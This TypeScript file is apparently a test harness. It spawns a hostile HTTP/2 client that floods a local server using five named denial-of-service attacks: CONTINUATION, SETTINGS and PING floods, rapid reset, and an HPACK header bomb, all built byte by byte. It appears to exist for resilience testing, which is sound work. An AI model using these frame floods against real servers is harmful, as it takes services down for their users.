/**
 * One client that keeps no rule of HTTP/2: floods one connection as fast as it is read, and opens the next one a second
 * after it is thrown out. Prints how much it has sent, as one JSON line, when its time is up.
 */
import { setTimeout as sleep } from "node:timers/promises";
import {
  endHeaders,
  endStream,
  frame,
  literals,
  rawH2,
  requestFields,
  frameTypes as types,
} from "../../test/support/h2-frames.ts";

/** To be started as a process of its own, with a `HostilePlan` in JSON as its argument. */
export const hostileClientProgram = import.meta.filename;

export const attacks = ["CONTINUATION", "SETTINGS", "PING", "rapid reset", "header bomb"] as const;
type Attack = (typeof attacks)[number];

export interface HostilePlan {
  readonly port: number;
  readonly attack: Attack;
  readonly seconds: number;
}

export interface HostileCount {
  readonly connections: number;
  readonly frames: number;
}

const whole = endHeaders | endStream;
const cancel = Buffer.from([0, 0, 0, 8]);
/** A field of 4,000 bytes that is put into the table of the peer, where it has number 62 from then on. RFC 7541, 6.2.1. */
const bombName = "x-bomb";
const bombValue = Buffer.alloc(4000, "a");
const planted = Buffer.concat([
  Buffer.from([0x40, bombName.length]),
  Buffer.from(bombName),
  Buffer.from([0x7f, 0xa1, 0x1e]), // 4000 in seven bits and more
  bombValue,
]);
/** One byte that stands for all of it, 4,000 times. */
const named = Buffer.alloc(4000, 0x80 | 62);

/** The frames of one step; `step` counts from 0 on each connection. */
const steps: Readonly<Record<Attack, (step: number) => Buffer>> = {
  CONTINUATION: (step) =>
    step === 0
      ? frame(types.headers, 0, 1, requestFields())
      : frame(types.continuation, 0, 1, literals(["x-a", "y".repeat(4000)])),
  SETTINGS: () => frame(types.settings, 0, 0, Buffer.from([0, 4, 0, 0, 255, 255])),
  PING: () => frame(types.ping, 0, 0, Buffer.alloc(8)),
  "rapid reset": (step) =>
    Buffer.concat([
      frame(types.headers, whole, step * 2 + 1, requestFields("GET", "/rest/orders/1")),
      frame(types.reset, 0, step * 2 + 1, cancel),
    ]),
  "header bomb": (step) =>
    frame(
      types.headers,
      whole,
      step * 2 + 1,
      Buffer.concat([requestFields(), step === 0 ? planted : Buffer.alloc(0), named]),
    ),
};

const batch = 50;
const pauseMs = 1000;

async function attackFor({ port, attack, seconds }: HostilePlan): Promise<HostileCount> {
  const until = performance.now() + seconds * 1000;
  let connections = 0;
  let frames = 0;
  while (performance.now() < until) {
    const { socket, closed } = rawH2(port);
    let isClosed = false;
    void closed.then(() => {
      isClosed = true;
    });
    connections += 1;
    for (let step = 0; !isClosed && performance.now() < until; ) {
      const sent = Buffer.concat(Array.from({ length: batch }, () => steps[attack](step++)));
      frames += batch;
      const isTaken = socket.write(sent);
      await Promise.race([
        closed,
        new Promise((resolve) => (isTaken ? setImmediate(resolve) : socket.once("drain", resolve))),
        new Promise((resolve) => setTimeout(resolve, Math.max(0, until - performance.now()))),
      ]);
    }
    socket.destroy();
    await sleep(Math.max(0, Math.min(pauseMs, until - performance.now())));
  }
  return { connections, frames };
}

if (process.argv[1] === import.meta.filename) {
  console.log(JSON.stringify(await attackFor(JSON.parse(process.argv[2] ?? "") as HostilePlan)));
  process.exit(0);
}
